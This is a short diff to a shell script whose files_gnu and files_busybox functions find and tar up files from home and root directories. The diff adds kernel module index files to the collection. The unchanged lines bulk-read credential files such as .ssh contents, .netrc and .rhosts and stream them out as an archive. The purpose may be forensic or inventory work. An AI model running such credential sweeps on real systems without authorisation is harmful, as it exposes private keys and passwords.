@@ -178,6 +178,8 @@ files_gnu() {
 		$as find /root /home /var/lib /srv /opt -xdev -maxdepth 4 \( -path '*/.ssh' -o -path '*/.ssh/*' -o -name .bashrc \
 			-o -name .profile -o -name .bash_profile -o -name .netrc -o -name .rhosts -o -name .forward \) \
 			-size -1025k -print0 2>/dev/null
+		$as find /usr/lib/modules /lib/modules -xdev -maxdepth 2 \( -name modules.dep -o -name modules.builtin \) \
+			-size -16385k -print0 2>/dev/null
 	} | $as tar --create --file=- --format=posix --absolute-names --null --no-recursion --xattrs \
 		--ignore-failed-read --warning=none --files-from=- 2>/dev/null
 }
@@ -198,6 +200,8 @@ files_busybox() {
 	$as find /root /home /var/lib /srv /opt -xdev -maxdepth 4 \( -path '*/.ssh/*' -o -name .bashrc \
 		-o -name .profile -o -name .bash_profile -o -name .netrc -o -name .rhosts -o -name .forward \) \
 		-type f -size -1025k -exec tar -c -f - {} + 2>/dev/null
+	$as find /usr/lib/modules /lib/modules -xdev -maxdepth 2 \( -name modules.dep -o -name modules.builtin \) \
+		-type f -size -16385k -exec tar -c -f - {} + 2>/dev/null
 }
 
 # The shell reads all of this before it runs any of it: nothing else takes from its input.
